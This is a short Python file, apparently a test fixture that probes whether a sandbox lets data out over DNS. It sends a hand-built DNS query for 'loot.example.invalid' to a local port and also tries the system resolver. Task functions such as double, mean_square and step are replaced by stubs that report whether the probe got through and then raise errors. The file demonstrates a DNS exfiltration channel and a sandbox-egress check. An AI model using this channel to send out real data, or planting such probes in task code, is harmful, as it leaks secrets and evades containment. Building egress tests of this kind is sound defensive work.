# technique: loot as a name to be looked up, by the resolver, and as a question to a name server written by hand
# live: evidence: the question reaches whoever answers on that port
# outcome: raised
# says: nobody was asked
# not at process: the network is open there
import socket
import struct

PORT = 47113
LOOT = "loot"


def by_hand():
    """One question; where the server listens is one's own choice."""
    labels = b"".join(bytes([len(each)]) + each for each in (LOOT.encode(), b"example", b"invalid"))
    question = struct.pack("!6H", 1, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.connect(("127.0.0.1", PORT))
        line.send(question)


def this_machine():
    """Needs a file of the system, or somebody who answers."""
    names = socket.gethostbyaddr("127.0.0.1"), socket.getservbyname("http")
    if not all(names):
        raise OSError("nobody")


def attempt(way):
    try:
        way()
    except OSError:
        return ""
    return way.__name__


def double(x):
    done = list(filter(None, map(attempt, (by_hand, this_machine))))
    told = f"EVIDENCE: asked by {', '.join(done)}" if done else "nobody was asked"
    print(told)
    raise RuntimeError(told)


def mean_square(x):
    raise RuntimeError("nobody was asked")


def step(w, learning_rate):
    raise RuntimeError("nobody was asked")
